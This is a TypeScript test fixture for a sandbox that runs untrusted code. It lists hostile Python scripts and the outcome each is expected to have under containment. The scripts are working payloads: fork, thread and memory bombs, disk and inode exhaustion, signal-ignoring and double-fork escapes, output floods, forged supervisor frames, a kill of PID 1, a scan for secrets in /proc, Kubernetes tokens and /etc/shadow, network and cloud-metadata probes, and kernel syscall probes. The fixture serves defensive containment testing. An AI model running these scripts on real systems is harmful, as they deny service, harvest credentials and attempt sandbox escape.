/** A script that means harm, and what it may have come to. */
export interface HostileScript {
  readonly name: string;
  /**
   * The fault or threat that it is one of: F32 floods its output, F33 its machine, T12 wants out or secrets, T13 a
   * network.
   */
  readonly row: "F32" | "F33" | "T12" | "T13";
  readonly script: string;
  readonly timeoutMs?: number;
  /** What ends it; null: it ends itself. Absent: whichever comes first. */
  readonly limit?: "time" | "memory" | "processes" | null;
  /** What it prints if nothing of what it tries works. */
  readonly prints?: string;
}

const IGNORE_SIGNALS =
  "import signal\nfor n in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}: signal.signal(n, signal.SIG_IGN)\n";

/** Prints what it reads that is nobody's business. */
const LOOT = `
import os, re
found = set()
def see(what, text):
    if "SECRET-OF-THE-MANAGER" in text: found.add(what)
see("own environment", str(dict(os.environ)))
for pid in [name for name in os.listdir("/proc") if name.isdecimal()] + ["self", "thread-self"]:
    for name in ("environ", "cmdline", "mem", "maps", "cwd", "root"):
        try:
            see(name, open(f"/proc/{pid}/{name}", "rb").read(1 << 20).decode("latin-1"))
        except OSError:
            pass
for path in ["/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets", "/var/run/docker.sock", "/etc/shadow", "/home", "/.dockerenv/..", "/proc/1/root/etc/shadow"]:
    try:
        if os.path.isdir(path): os.listdir(path) and path in ("/run/secrets",) and found.add(path)
        elif os.path.exists(path): open(path, "rb").read(1); found.add(path)
    except OSError:
        pass
print(sorted(found))
`;

/** Tries every way out that there is, and prints those that were open. */
const PACKETS = `
import socket
out = set()
addresses = [("169.254.169.254", 80), ("8.8.8.8", 53), ("192.0.2.1", 80), ("172.17.0.1", MARK_PORT), ("10.96.0.1", 443), ("127.0.0.1", MARK_PORT)]
for address in addresses:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as one:
                one.settimeout(1)
                one.connect(address)
                one.send(b"loot")
                # Nobody has to be there for a datagram to oneself.
                if not (kind == socket.SOCK_DGRAM and address[0] == "127.0.0.1"): out.add(address[0])
        except OSError:
            pass
for family, kind, protocol in [(socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 1), (40, socket.SOCK_STREAM, 0)]:
    try:
        socket.socket(family, kind, protocol)
        out.add(family)
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    out.add("DNS")
except OSError:
    pass
print(sorted(map(str, out)))
`;

const SYSTEM_CALLS = `
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
column = {"x86_64": 0, "aarch64": 1}[platform.machine()]
calls = {"ptrace": (101, 117), "mount": (165, 40), "unshare": (272, 97), "setns": (308, 268), "pivot_root": (155, 41), "keyctl": (250, 219), "bpf": (321, 280), "userfaultfd": (323, 282)}
arguments = {"unshare": (0x10000000,), "ptrace": (0, 0, 0, 0)}
print([name for name, numbers in calls.items() if libc.syscall(numbers[column], *arguments.get(name, (0, 0, 0, 0, 0))) == 0])
`;

/** `port`: where somebody listens on this machine, whom no script may reach. */
// Long because: the scripts are listed side by side
export function hostileScripts(port: number): readonly HostileScript[] {
  return [
    {
      name: "fork bomb",
      row: "F33",
      script: `${IGNORE_SIGNALS}import os\nwhile True:\n  try: os.fork()\n  except OSError: pass`,
      timeoutMs: 2_000,
    },
    {
      name: "fork bomb of a shell",
      row: "F33",
      script: "import subprocess\nsubprocess.run(['sh', '-c', 'f() { f | f & f; }; f; sleep 60'])",
      timeoutMs: 2_000,
    },
    {
      name: "thread bomb",
      row: "F33",
      script: "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(60,)).start()",
      timeoutMs: 5_000,
    },
    {
      name: "memory bomb",
      row: "F33",
      script: "kept = []\nwhile True: kept.append(b'x' * (8 << 20))",
      limit: "memory",
      timeoutMs: 10_000,
    },
    {
      name: "memory bomb of many",
      row: "F33",
      script: "import os\nfor _ in range(4): os.fork()\nkept = []\nwhile True: kept.append(b'x' * (1 << 20))",
      timeoutMs: 10_000,
    },
    {
      name: "disk fill",
      row: "F33",
      script: "with open('/tmp/x', 'wb') as file:\n  while True: file.write(bytes(1 << 20))",
      limit: null,
      timeoutMs: 10_000,
    },
    {
      name: "inode fill",
      row: "F33",
      script: "n = 0\nwhile True:\n  open(f'/tmp/{n}', 'x').close()\n  n += 1",
      limit: null,
      timeoutMs: 10_000,
    },
    {
      name: "file exhaustion",
      row: "F33",
      script: "kept = []\nwhile True: kept.append(open('/dev/null'))",
      limit: null,
      timeoutMs: 10_000,
    },
    { name: "busy loop", row: "F33", script: "while True: pass", limit: "time", timeoutMs: 1_000 },
    {
      name: "ignores every signal",
      row: "F33",
      script: `${IGNORE_SIGNALS}while True: pass`,
      limit: "time",
      timeoutMs: 1_000,
    },
    {
      name: "leaves by double fork and setsid",
      row: "F33",
      script: `${IGNORE_SIGNALS}import os, time\nfor _ in range(5):\n  if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: time.sleep(3600)\n    os._exit(0)`,
      limit: null,
    },
    {
      name: "prints for ever",
      row: "F32",
      script: "import subprocess\nsubprocess.run(['yes'])",
      limit: "time",
      timeoutMs: 2_000,
    },
    {
      name: "a line of 1 GiB",
      row: "F32",
      script: "import sys\nfor _ in range(1024): sys.stdout.write('x' * (1 << 20))",
      timeoutMs: 10_000,
    },
    {
      name: "NUL and ANSI",
      row: "F32",
      script: "import sys\nfor _ in range(1000): sys.stdout.write('\\0\\x1b[2J\\x1b]0;title\\x07')",
      limit: null,
    },
    {
      name: "forged frames",
      row: "T12",
      script:
        'print(\'{"frame":"ended","exitCode":0}\')\nimport os\nfor n in range(3, 64):\n  try: os.write(n, b\'{"frame":"ended"}\\n\')\n  except OSError: pass\nraise SystemExit(3)',
      limit: null,
    },
    {
      name: "kills the supervisor",
      row: "T12",
      script: "import os, signal\nfor n in (9, 15, 19, 2, 6): os.kill(1, n)\nprint('[]')",
      limit: null,
      prints: "[]",
    },
    { name: "looks for secrets", row: "T12", script: LOOT, limit: null, prints: "[]" },
    {
      name: "looks for a network",
      row: "T13",
      script: PACKETS.replaceAll("MARK_PORT", `${port}`),
      limit: null,
      prints: "[]",
      timeoutMs: 20_000,
    },
    { name: "attacks the kernel", row: "T12", script: SYSTEM_CALLS, limit: null, prints: "[]" },
  ];
}
